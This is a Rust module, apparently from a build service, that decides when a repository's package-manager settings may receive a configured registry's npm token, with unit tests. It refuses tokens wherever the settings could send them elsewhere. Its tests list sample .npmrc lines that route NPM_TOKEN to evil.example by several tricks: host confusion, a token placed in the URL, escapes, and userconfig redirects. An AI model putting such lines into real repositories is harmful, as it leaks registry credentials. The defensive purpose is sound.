//! The variables that a repository's own settings of package managers name: `_authToken=${NPM_TOKEN}`.
//!
//! npm 6, yarn 1 and Berry end when such a variable is not set, so each exists, and is empty. npm and yarn 1 then
//! take the repository's empty token before the user's, so a variable that stands for a configured registry's token,
//! and for nothing else, is given that token. A repository must not be able to have a token sent elsewhere by its
//! settings: where a variable also appears in another place, or could be hidden in one, it stays empty.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use serde_json::Value;
use url::Url;

use crate::config::server::{Access, Registry};
use crate::domain::spec::StepSpec;
use crate::domain::step::StepKind;
use crate::tree::Dir;

/// Files in which a manager replaces `${NAME}` by a variable, or that send it to further files.
const FILES: [&str; 6] = [".npmrc", ".yarnrc.yml", ".yarnrc", ".bowerrc", "bunfig.toml", "pnpm-workspace.yaml"];

/// The largest that is read, in bytes.
const LARGEST: u64 = 256 * 1024;

/// Managers that read a token out of `.npmrc`.
const READERS: [&str; 4] = ["npm", "yarn", "pnpm", "bun"];

/// One of [`FILES`] as it was committed.
pub(super) struct File {
    pub(super) name: &'static str,
    pub(super) text: String,
}

/// The variables for one step, from the sources in `root`, which no build writes.
pub fn variables(root: &Path, step: &StepSpec, registries: &[Registry]) -> BTreeMap<String, String> {
    let (files, whole) = read(root, &step.dir);
    let mut variables: BTreeMap<String, String> =
        files.iter().flat_map(|file| needed(&file.text)).map(|name| (name, String::new())).collect();
    let may_know = whole && step.kind == StepKind::Install && READERS.contains(&step.tool.as_str());
    if may_know {
        variables.extend(tokens(&files, registries));
    }
    variables
}

/// Every http address that these files name: where a repository's own settings send its managers, to registries, mirrors
/// of binaries, headers.
pub fn addresses(root: &Path, dir: &str) -> Vec<Url> {
    let (files, _) = read(root, dir);
    let lines = files.iter().flat_map(|file| file.text.lines().map(str::trim));
    lines.filter(|line| !line.starts_with(['#', ';'])).flat_map(urls).collect()
}

fn urls(line: &str) -> impl Iterator<Item = Url> + '_ {
    let ends = |c: char| c.is_whitespace() || "\"'`,<>()[]{}".contains(c);
    let starts = line.match_indices("http").map(move |(at, _)| line[at..].split(ends).next().unwrap_or_default());
    starts
        .filter(|word| !word.contains('$'))
        .filter_map(|word| Url::parse(word).ok())
        .filter(|url| matches!(url.scheme(), "http" | "https") && url.has_host())
}

/// Where a repository's own `.bowerrc` has names looked up, in the folder or the nearest above it.
pub fn bower_registries(root: &Path, dir: &str) -> Vec<Url> {
    let (files, _) = read(root, dir);
    let settings = files.iter().filter(|file| file.name == ".bowerrc");
    let found = settings.filter_map(|file| {
        let settings: Value = serde_json::from_str(file.text.trim_start_matches('\u{feff}')).ok()?;
        let registry = settings.get("registry")?;
        // Either one address, or one for each purpose.
        let search = registry.get("search").or_else(|| registry.get("default")).unwrap_or(registry);
        let texts: Vec<&str> = match search {
            Value::Array(many) => many.iter().filter_map(Value::as_str).collect(),
            one => one.as_str().into_iter().collect(),
        };
        Some(texts.into_iter().flat_map(urls).collect::<Vec<_>>()).filter(|urls| !urls.is_empty())
    });
    found.into_iter().next().unwrap_or_default()
}

/// The files that a manager started in `dir` may read there and in the folders above, and whether that is all of
/// them: a link or a file too large could say anything.
fn read(root: &Path, dir: &str) -> (Vec<File>, bool) {
    let Ok(root) = Dir::open(root) else { return (Vec::new(), false) };
    let (mut files, mut whole) = (Vec::new(), true);
    let dir = if dir == "." { "" } else { dir };
    for folder in Path::new(dir).ancestors() {
        for name in FILES {
            match root.read_file(&folder.join(name), LARGEST) {
                Ok(bytes) => files.push(File { name, text: String::from_utf8_lossy(&bytes).into_owned() }),
                Err(error) if error.is_not_found() => {}
                Err(_) => whole = false,
            }
        }
    }
    (files, whole)
}

/// Names in `${NAME}`. One with a default (`${NAME-x}`, `${NAME:-x}`) does without.
pub(super) fn needed(text: &str) -> BTreeSet<String> {
    let opened = text.match_indices("${").filter_map(|(at, _)| text[at + 2..].split_once('}'));
    opened.map(|(name, _)| name).filter(|name| is_name(name)).map(str::to_owned).collect()
}

fn is_name(name: &str) -> bool {
    name.starts_with(|first: char| first.is_ascii_alphabetic() || first == '_')
        && name.chars().all(|letter| letter.is_ascii_alphanumeric() || letter == '_')
}

/// The variables that stand for the token of a configured registry, and for nothing else.
pub(super) fn tokens(files: &[File], registries: &[Registry]) -> BTreeMap<String, String> {
    // A carriage return alone ends a line too, as in npm's own reader (ini(1)): what follows one is no comment.
    let lines =
        || files.iter().flat_map(|file| file.text.split(['\n', '\r']).map(move |line| (file.name, line.trim())));
    let lines = || lines().filter(|(_, line)| !line.starts_with(['#', ';']));
    // An escape could spell a name that is not seen here, and these keys name files that were not read.
    if lines().any(|(_, line)| (line.contains('\\') && line.contains('$')) || sends_elsewhere(line)) {
        return BTreeMap::new();
    }
    let mut found: BTreeMap<String, Option<String>> = BTreeMap::new();
    let mut legal = BTreeSet::new();
    for (at, (name, line)) in lines().enumerate() {
        let Some((variable, token)) = (name == ".npmrc").then(|| auth_line(line, registries)).flatten() else {
            continue;
        };
        legal.insert(at);
        let kept = found.entry(variable.to_owned()).or_insert_with(|| Some(token.clone()));
        if kept.as_ref() != Some(&token) {
            *kept = None;
        }
    }
    let stray =
        |variable: &str| lines().enumerate().any(|(at, (_, line))| !legal.contains(&at) && line.contains(variable));
    found
        .into_iter()
        .filter(|(variable, _)| !stray(variable))
        .filter_map(|(name, token)| Some((name, token?)))
        .collect()
}

/// npm reads the user's settings after the repository's, from where these say (npm: config, "userconfig").
fn sends_elsewhere(line: &str) -> bool {
    let key = line.split(['=', ':', ' ']).next().unwrap_or_default().trim_matches(['"', '\'']);
    ["userconfig", "globalconfig", "prefix"].contains(&key)
}

/// `//registry/path/:_authToken=${NAME}` of a registry that is configured and has a token for this build.
fn auth_line<'a>(line: &'a str, registries: &[Registry]) -> Option<(&'a str, String)> {
    let (key, value) = line.split_once('=')?;
    let place = key.trim().strip_prefix("//")?.strip_suffix(":_authToken")?;
    let variable = value.trim().trim_matches(['"', '\'']).strip_prefix("${")?.strip_suffix('}')?;
    if !is_name(variable) || !is_a_credentials_name(variable) {
        return None;
    }
    let (host, path) = place.split_once('/').unwrap_or((place, ""));
    let path = path.trim_matches('/');
    let serves = |registry: &&Registry| {
        let own = registry.url.path().trim_matches('/');
        // npm looks a token up at the registry's own path, then at those above it.
        registry.host() == host && (own == path || path.is_empty() || own.starts_with(&format!("{path}/")))
    };
    let mut matching: Vec<&Registry> = registries.iter().filter(serves).collect();
    matching.sort_by_key(|registry| registry.url.path().len());
    match &matching.first()?.access {
        Access::Token(token) => Some((variable, String::from_utf8_lossy(token.expose()).into_owned())),
        Access::Open | Access::Withheld => None,
    }
}

/// Whether a name says that it holds a credential, and none that a tool itself acts upon. node would print a token
/// that was put into `NODE_OPTIONS`, and Berry would send the one in `YARN_NPM_AUTH_TOKEN` to any registry.
fn is_a_credentials_name(name: &str) -> bool {
    const ACTED_UPON: [&str; 8] =
        ["NPM_CONFIG_", "PNPM_CONFIG_", "YARN_", "BUN_", "GIT_", "COREPACK_", "BOWER_", "SSH_"];
    let upper = name.to_ascii_uppercase();
    let says_so = |word: &str| {
        ["TOKEN", "AUTH", "KEY", "SECRET", "PASSWORD"].iter().any(|end| word.ends_with(end)) || word == "PAT"
    };
    upper.split('_').any(says_so) && !ACTED_UPON.iter().any(|prefix| upper.starts_with(prefix))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::secret::Secret;

    const GOOD: &str = "//npm.acme.dev/js/:_authToken=${NPM_TOKEN}\n";

    fn acme() -> Registry {
        Registry {
            url: "https://npm.acme.dev/js".parse().expect("an address"),
            scopes: vec!["@acme".into()],
            repos: vec!["**".into()],
            access: Access::Token(Secret::new("npm_0123")),
        }
    }

    fn given(files: &[(&'static str, &str)]) -> String {
        let files: Vec<File> = files.iter().map(|(name, text)| File { name, text: (*text).to_owned() }).collect();
        let found = tokens(&files, &[acme()]);
        found.into_iter().map(|(name, token)| format!("{name}={token}")).collect::<Vec<_>>().join(" ")
    }

    #[test]
    fn a_variable_for_the_configured_registry_is_its_token() {
        let check = |text: &str| assert_eq!(given(&[(".npmrc", text)]), "NPM_TOKEN=npm_0123", "{text}");
        check(GOOD);
        check(
            "# export NPM_TOKEN=…\n@acme:registry=https://npm.acme.dev/js/\n//npm.acme.dev/js/:_authToken = \"${NPM_TOKEN}\"",
        );
        check("//npm.acme.dev/:_authToken=${NPM_TOKEN}\n//other.example/:_authToken=${OTHER_TOKEN}");
    }

    #[test]
    fn nothing_is_sent_to_another_host() {
        let check = |more: &str| assert_eq!(given(&[(".npmrc", &format!("{GOOD}{more}"))]), "", "{more}");
        check("//evil.example/:_authToken=${NPM_TOKEN}");
        check("registry=https://evil.example/${NPM_TOKEN}/");
        check("@acme:registry=https://${NPM_TOKEN}.evil.example/");
        check("registry=https://evil.example/${NPM_TOKEN-x}/");
        // ini(1)'s quoted values are JSON strings, which know escapes.
        check("registry=\"https://evil.example/${NPM\\u005fTOKEN}\"");
        check("userconfig=./other.npmrc");
        check("# a comment\r//evil.example/:_authToken=${NPM_TOKEN}");
        check("; a comment\ruserconfig=./other.npmrc");
        assert_eq!(given(&[(".npmrc", GOOD), (".bowerrc", "{\"registry\": \"https://evil/${NPM_TOKEN}\"}")]), "");
        for alone in [
            "//evil.example/:_authToken=${NPM_TOKEN}",
            "//npm.acme.dev.evil.example/:_authToken=${NPM_TOKEN}",
            "//npm.acme.dev:8080/:_authToken=${NPM_TOKEN}",
            "//npm.acme.dev@evil.example/:_authToken=${NPM_TOKEN}",
            "//npm.acme.dev/jsx/:_authToken=${NPM_TOKEN}",
            "//npm.acme.dev/:_authToken=${NODE_OPTIONS}",
            "//npm.acme.dev/:_authToken=${NPM_CONFIG__AUTHTOKEN}",
            "//npm.acme.dev/:_password=${NPM_TOKEN}",
            "//npm.acme.dev/:_authToken=x${NPM_TOKEN}",
        ] {
            assert_eq!(given(&[(".npmrc", alone)]), "", "{alone}");
        }
    }

    #[test]
    fn a_build_without_the_token_has_an_empty_variable() {
        let file = [File { name: ".npmrc", text: GOOD.to_owned() }];
        assert_eq!(tokens(&file, &[acme().without_token()]), BTreeMap::new());
        let names: Vec<String> = needed("${A}${B_1}${C:-x} ${D-x} $E ${F").into_iter().collect();
        assert_eq!(names, ["A", "B_1"]);
    }

    #[test]
    fn where_a_repository_sends_its_managers() {
        let dir = tempfile::tempdir().expect("a folder");
        std::fs::create_dir(dir.path().join("client")).expect("a folder");
        for (path, text) in [
            (
                ".npmrc",
                "; https://comment.example\nregistry=https://npm.acme.dev/js/\n//npm.acme.dev/:_authToken=${T}\n",
            ),
            (
                "client/.npmrc",
                "sass_binary_site = \"http://mirror.acme.dev:8080/sass\"\n@x:registry=https://${HOST}/\n",
            ),
            (".yarnrc.yml", "npmScopes: {acme: {npmRegistryServer: 'https://yarn.acme.dev'}}\n"),
            ("bunfig.toml", "[install.scopes]\nacme = \"https://bun.acme.dev/\"\n"),
            (".bowerrc", r#"{"registry": {"search": ["https://one.example", "https://two.example"]}}"#),
        ] {
            std::fs::write(dir.path().join(path), text).expect("a file");
        }
        let hosts = |dir: &Path, at: &str| -> Vec<String> {
            addresses(dir, at).iter().map(|url| url.origin().ascii_serialization()).collect()
        };
        assert_eq!(
            hosts(dir.path(), "client"),
            [
                "http://mirror.acme.dev:8080",
                "https://npm.acme.dev",
                "https://yarn.acme.dev",
                "https://one.example",
                "https://two.example",
                "https://bun.acme.dev"
            ]
        );
        let names = |at: &str| bower_registries(dir.path(), at).iter().map(Url::to_string).collect::<Vec<_>>();
        assert_eq!(names("client"), ["https://one.example/", "https://two.example/"]);
        std::fs::write(dir.path().join("client/.bowerrc"), r#"{"registry": "http://127.0.0.1:9/"}"#).expect("a file");
        assert_eq!(names("client"), ["http://127.0.0.1:9/"], "the nearest");
    }

    #[test]
    fn a_link_could_say_anything() {
        let dir = tempfile::tempdir().expect("a folder");
        std::fs::create_dir(dir.path().join("client")).expect("a folder");
        std::fs::write(dir.path().join(".npmrc"), GOOD).expect("a file");
        let (files, whole) = read(dir.path(), "client");
        assert!(whole && files.len() == 1);
        std::os::unix::fs::symlink("../.npmrc", dir.path().join("client/.npmrc")).expect("a link");
        assert!(!read(dir.path(), "client").1);
    }
}
